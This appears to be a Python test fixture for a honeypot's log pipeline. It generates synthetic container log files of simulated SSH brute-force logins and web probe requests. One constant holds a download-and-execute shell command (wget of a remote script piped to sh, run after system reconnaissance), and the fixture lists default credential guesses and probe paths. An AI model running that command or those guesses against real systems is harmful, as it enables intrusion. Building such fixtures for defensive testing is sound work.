"""The log files that everything under test reads: CRI records with the events of logins and web requests."""

from __future__ import annotations

import itertools
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from decnet_events.rfc5424 import Line, format_line, format_timestamp

LINE_BYTES = 176
"""Mean length of an event line."""

RECORD_BYTES = len("2026-01-01T00:00:00.000000123Z stdout F \n")
"""What the runtime adds to a line."""

SPACING = timedelta(milliseconds=20)
"""Between two lines of one container."""

_ADDRESSES = 250
"""Source addresses in turn: none comes again within a suppression window, so nothing is withheld."""

_SHELL = "uname -a; cat /proc/cpuinfo | grep model; wget -q http://198.51.100.7/x.sh -O- | sh; rm -f x.sh; "
_AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36 "
_PATHS = ("/", "/wp-login.php", "/xmlrpc.php", "/.env", "/admin/config.php")
_GUESSES = (
    ("root", "123456", "MTIzNDU2"),
    ("admin", "admin", "YWRtaW4="),
    ("oracle", "oracle", "b3JhY2xl"),
)


@dataclass(frozen=True)
class Corpus:
    """Files under `root`, laid out as /var/log/pods is."""

    root: Path
    files: int
    lines: int
    bytes: int


def container_directories(root: Path, count: int, seed: int = 1) -> list[Path]:
    """Directories of `count` containers, two a pod; the pods have the one that marks a decky as well."""
    numbers = random.Random(seed)
    directories: list[Path] = []
    while len(directories) < count:
        uid = uuid.UUID(int=numbers.getrandbits(128), version=4)
        pod = root / f"decnet_web-{len(directories) // 2:03}_{uid}"
        (pod / "persona").mkdir(parents=True)
        for service in ("ssh", "http")[: count - len(directories)]:
            (pod / service).mkdir()
            directories.append(pod / service)
    return directories


def write_corpus(root: Path, files: int, lines: int) -> Corpus:
    """`lines` lines in `files` files, the last of each file written just now."""
    each, more = divmod(lines, files)
    size = 0
    now = datetime.now(UTC)
    for number, directory in enumerate(container_directories(root, files)):
        count = each + (number < more)
        with (directory / "0.log").open("wb") as log:
            for line, when in zip(event_lines(directory, count), _times(now, count), strict=True):
                stamp = format_timestamp(when)
                size += log.write(record(line._replace(timestamp=when), stamp))
    return Corpus(root, files, lines, size)


def record(line: Line, stamp: str) -> bytes:
    """The runtime's record of `line`, written at `stamp` (microseconds, with Z)."""
    return f"{stamp[:-1]}123Z stdout F {format_line(line)}\n".encode()


def _times(last: datetime, count: int) -> Iterator[datetime]:
    return (last - SPACING * (count - 1 - number) for number in range(count))


def event_lines(directory: Path, count: int) -> Iterator[Line]:
    """`count` lines of one container, of LINE_BYTES on the average, without their times."""
    service = directory.name
    host = directory.parent.name.split("_")[1]
    sessions = _ssh_sessions(host) if service == "ssh" else _http_sessions(host)
    room = 0
    for line in itertools.islice(itertools.chain.from_iterable(sessions), count):
        fitted, room = _fit(line, room + LINE_BYTES)
        yield fitted


def _fit(line: Line, room: int) -> tuple[Line, int]:
    """`line` with its command or browser as long as there is room, and what room is left."""
    room -= len(format_line(line)) + len(format_timestamp(datetime.now(UTC))) - 1
    for name, text in (("command", _SHELL), ("user_agent", _AGENT)):
        if name in line.fields:
            shown = (text * 3)[: max(room, 0)]
            room -= len(shown)
            line = line._replace(fields={**line.fields, name: shown})
    return line, room


def _ssh_sessions(host: str) -> Iterator[list[Line]]:
    for number in itertools.count():
        source = _source(number)
        session = {**source, "session": f"{number:08x}"}
        yield [
            Line(host, "ssh", "connect", source),
            *(_credential(host, source, guess) for guess in _GUESSES[: 1 + number % 3]),
            Line(host, "ssh", "command", {**session, "principal": "root", "command": "", "how": "exec"}),
            Line(host, "ssh", "command", {**session, "principal": "root", "command": "", "how": "exec"}),
            Line(host, "ssh", "disconnect", source),
        ]


def _http_sessions(host: str) -> Iterator[list[Line]]:
    for number in itertools.count():
        source = _source(number)
        request = {
            **source,
            "method": "GET",
            "path": _PATHS[number % 5],
            "protocol": "HTTP/1.1",
            "status": "404",
        }
        yield [
            Line(host, "http", "connect", source),
            Line(host, "http", "http_request", {**request, "user_agent": ""}),
            Line(host, "http", "http_request", {**request, "user_agent": ""}),
            Line(host, "http", "disconnect", source),
        ]


def _credential(host: str, source: dict[str, str], guess: tuple[str, str, str]) -> Line:
    name, secret, encoded = guess
    fields = {
        **source,
        "principal": name,
        "secret_printable": secret,
        "secret_b64": encoded,
        "secret_kind": "plaintext",
        "outcome": "refused",
        "method": "password",
    }
    return Line(host, "ssh", "credential", fields)


def _source(session: int) -> dict[str, str]:
    return {"src_ip": f"198.18.7.{session % _ADDRESSES + 1}", "src_port": str(32768 + session * 7 % 28000)}
